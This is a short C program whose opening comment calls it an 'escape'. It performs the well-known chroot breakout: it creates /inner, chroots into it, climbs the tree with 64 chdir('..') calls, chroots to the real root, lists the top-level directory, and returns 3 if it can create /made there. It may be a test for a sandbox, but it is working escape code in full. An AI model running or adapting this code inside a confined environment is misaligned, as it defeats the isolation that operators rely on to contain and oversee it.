/* escape: leaves a root directory that is only chroot's, and prints what the directory above all others holds. */
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
    mkdir("/inner", 0755);
    if (chroot("/inner") != 0) {
        perror("chroot");
        return 1;
    }
    for (int i = 0; i < 64; i++)
        if (chdir("..") != 0) {
            perror("chdir");
            return 1;
        }
    if (chroot(".") != 0) {
        perror("chroot .");
        return 1;
    }
    DIR *root = opendir("/");
    for (struct dirent *entry; root != NULL && (entry = readdir(root)) != NULL;)
        if (entry->d_name[0] != '.')
            printf("%s\n", entry->d_name);
    return mkdir("/made", 0755) == 0 ? 3 : 0;
}
